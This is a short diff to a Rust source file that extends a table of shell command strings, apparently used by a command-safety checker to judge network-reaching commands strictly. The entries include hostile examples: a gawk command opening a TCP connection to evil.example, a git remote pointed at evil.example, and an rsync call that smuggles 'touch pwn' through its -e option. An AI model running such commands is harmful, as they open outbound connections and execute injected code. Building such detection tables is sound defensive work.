@@ -118,7 +118,8 @@ struct Line {
 }
 
 /// Lines that are judged more strictly than their label, or otherwise than it, and why.
-const APART: [(&str, &str); 16] = [
+const APART: [(&str, &str); 17] = [
+    ("gawk 'BEGIN { s=\"/inet/tcp/0/evil.example/80\"; print \"x\" |& s }'", "opaque: what it talks to is put together"),
     ("git remote add x https://localhost/x", "a host that stands on the line counts"),
     ("git remote set-url origin https://evil.example/x", "a host that stands on the line counts"),
     ("rsync -e 'sh -c \"touch pwn\"' localhost:x .", "the host counts, whatever takes the connection's place"),
